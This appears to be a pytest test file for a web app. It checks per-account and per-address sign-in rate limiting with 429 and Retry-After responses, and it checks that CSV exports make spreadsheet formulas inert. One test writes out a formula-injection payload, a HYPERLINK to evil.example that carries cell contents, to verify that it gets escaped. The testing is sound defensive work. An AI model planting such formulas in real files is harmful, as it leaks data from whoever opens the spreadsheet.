"""Sign-in rate limiting (per account and per address, 429 + Retry-After) and spreadsheet formulas made inert."""
from __future__ import annotations

import csv
import io

import pytest

from .conftest import PASSWORDS, make_app
from .test_api import assert_error, only, token


@pytest.fixture()
def fresh(store):
    """A client of a new app on the module's store: its own sign-in counters."""
    from fastapi.testclient import TestClient
    with TestClient(make_app(store), base_url="http://127.0.0.1") as c:
        yield c


def test_failed_sign_ins_of_an_account_get_429_with_retry_after(fresh):
    for _ in range(5):
        assert_error(fresh.post("/api/session", json={"name": "amina", "password": "wrong"}), 401)
    r = fresh.post("/api/session", json={"name": "amina", "password": PASSWORDS["amina"]})
    error = assert_error(r, 429, "too_many_requests")
    assert 0 < int(r.headers["Retry-After"]) <= 900 and "try again" in error["message"]
    # another account from the same address still signs in
    assert fresh.post("/api/session", json={"name": "ada", "password": PASSWORDS["ada"]}).status_code == 200


def test_failed_sign_ins_from_an_address_get_429(fresh):
    for i in range(20):
        assert_error(fresh.post("/api/session", json={"name": f"nobody{i}", "password": "wrong"}), 401)
    r = fresh.post("/api/session", json={"name": "victor", "password": PASSWORDS["victor"]})
    assert_error(r, 429)
    assert int(r.headers["Retry-After"]) > 0


def test_the_sign_in_page_is_limited_too(fresh):
    csrf = fresh.get("/login").text.split('name="csrf_token" value="')[1].split('"')[0]
    for _ in range(5):
        r = fresh.post("/login", data={"name": "victor", "password": "wrong", "csrf_token": csrf})
        assert r.status_code == 401
    r = fresh.post("/login", data={"name": "victor", "password": PASSWORDS["victor"], "csrf_token": csrf},
                   follow_redirects=False)
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0 and "try again" in r.text


def test_a_right_password_clears_the_account_count(fresh):
    for _ in range(4):
        fresh.post("/api/session", json={"name": "amina", "password": "wrong"})
    assert fresh.post("/api/session", json={"name": "amina", "password": PASSWORDS["amina"]}).status_code == 200
    for _ in range(4):
        fresh.post("/api/session", json={"name": "amina", "password": "wrong"})
    assert fresh.post("/api/session", json={"name": "amina", "password": PASSWORDS["amina"]}).status_code == 200


def test_formula_cells_are_inert_in_the_csv(client):
    auth = token(client)
    event_id = only(client, type="Disaster")["event_id"]
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = client.post(f"/api/events/{event_id}/corrections", json={"field": "notes", "value": payload, "reason": "test"},
                    headers=auth)
    assert r.status_code == 201
    client.post(f"/api/events/{event_id}/corrections", json={"field": "location", "value": "@SUM(1+1)", "reason": "t"},
                headers=auth)
    (row,) = csv.DictReader(io.StringIO(client.get("/api/export", params={"format": "acled-csv", "type": "Disaster"}).text))
    assert row["notes"] == "'" + payload and row["location"] == "'@SUM(1+1)"
    assert float(row["longitude"]) and row["fatalities"].isdigit()  # numbers stay numbers
    negative = [r for r in csv.DictReader(io.StringIO(client.get("/api/export", params={"format": "acled-csv"}).text))
                if r["longitude"].startswith("-")]
    assert negative  # a negative longitude is a number, not a formula: left as it is
